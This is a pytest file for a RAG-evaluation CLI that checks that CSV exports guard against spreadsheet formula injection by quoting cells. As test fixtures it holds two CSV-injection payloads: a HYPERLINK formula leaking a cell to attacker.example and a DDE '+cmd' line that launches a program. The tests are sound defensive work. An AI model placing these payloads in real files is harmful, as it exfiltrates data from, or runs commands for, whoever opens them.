"""Every command that writes CSV writes it safe for spreadsheets, and exactly with ``--raw``.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (OWASP's
CSV injection): a note ``=HYPERLINK(...)`` or a model's answer ``+cmd|...`` would run on the
machine of whoever opens the export. By default such a text cell is written with a ``'`` before
it; ``--raw`` writes it as stored.
"""

from __future__ import annotations

import csv
import io

import pytest
from projectkit import make_small_project

from ragjudge.cli import main
from ragjudge.services.labels.events import record_label

LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"refund")'
CMD = "+cmd|' /C calc'!A0"


from clikit import no_project  # noqa: E402, F401 - autouse: no project named by the environment


@pytest.fixture()
def db(tmp_path) -> str:
    from ragjudge.store.schema import Annotator, LlmCall

    path = str(tmp_path / "csv.db")
    project = make_small_project(path)
    record_label(project, annotator="ana", query_id="q1", chunk_id="c05", grade=2, note=LINK)
    record_label(project, annotator="ana", query_id="q2", chunk_id="c05", grade=1, note=CMD)

    def audit(session) -> None:
        session.add(Annotator(name="llm:m", kind="llm"))
        session.flush()
        session.add(LlmCall(query_id="q1", chunk_id="c05", annotator="llm:m", model="m",
                            prompt_sha256="0" * 64, outcome="unparsed", answer=CMD,
                            error=LINK, attempts=1))

    project.write(audit)
    project.close()
    return path


def _rows(capsys, *args: str) -> list[list[str]]:
    code = main(list(args))
    out, err = capsys.readouterr()
    assert code == 0, err
    return list(csv.reader(io.StringIO(out)))


def _column(rows: list[list[str]], name: str) -> list[str]:
    at = rows[0].index(name)
    return [row[at] for row in rows[1:]]


@pytest.mark.parametrize("raw", [False, True])
def test_export_labels_csv(capsys, db, raw):
    rows = _rows(capsys, "--db", db, "export", "labels", "--format", "csv", "--by", "ana",
                 *(["--raw"] if raw else []))
    quote = "" if raw else "'"
    assert _column(rows, "note") == [quote + LINK, quote + CMD]


@pytest.mark.parametrize("raw", [False, True])
def test_export_llm_audit_csv(capsys, db, raw):
    rows = _rows(capsys, "--db", db, "export", "labels", "--llm-audit", "--format", "csv",
                 *(["--raw"] if raw else []))
    quote = "" if raw else "'"
    assert _column(rows, "answer") == [quote + CMD]
    assert _column(rows, "error") == [quote + LINK]
    assert _column(rows, "annotator") == ["llm:m"]  # nothing to neutralise: as stored


def test_raw_goes_with_csv_only(capsys, db):
    for args in (["export", "labels", "--raw"], ["export", "qrels", "--format", "trec", "--raw"],
                 ["export", "labels", "--llm-audit", "--raw"]):
        assert main(["--db", db, *args]) == 2
        err = capsys.readouterr().err
        assert "--raw writes the cells of a CSV exactly; it goes with --format csv" in err, err


@pytest.mark.parametrize("raw", [False, True])
def test_compare_csv(capsys, db, tmp_path, raw):
    """compare's CSV: the run names (text cells) neutralised unless --raw."""
    qrels = tmp_path / "q.trec"
    qrels.write_text("q1 0 c1 1\nq2 0 c2 1\n", encoding="utf-8")
    runs = []
    for name in ("=a", "@b"):
        path = tmp_path / f"{name}.trec"
        path.write_text("q1 Q0 c1 1 2 t\nq1 Q0 c2 2 1 t\nq2 Q0 c2 1 2 t\n", encoding="utf-8")
        runs.append(str(path))
    rows = _rows(capsys, "compare", *runs, "--qrels", str(qrels), "-m", "P@1", "--format", "csv",
                 "--permutations", "10", "--resamples", "10", *(["--raw"] if raw else []))
    quote = "" if raw else "'"
    assert _column(rows, "run_a") == [quote + "=a"] and _column(rows, "run_b") == [quote + "@b"]
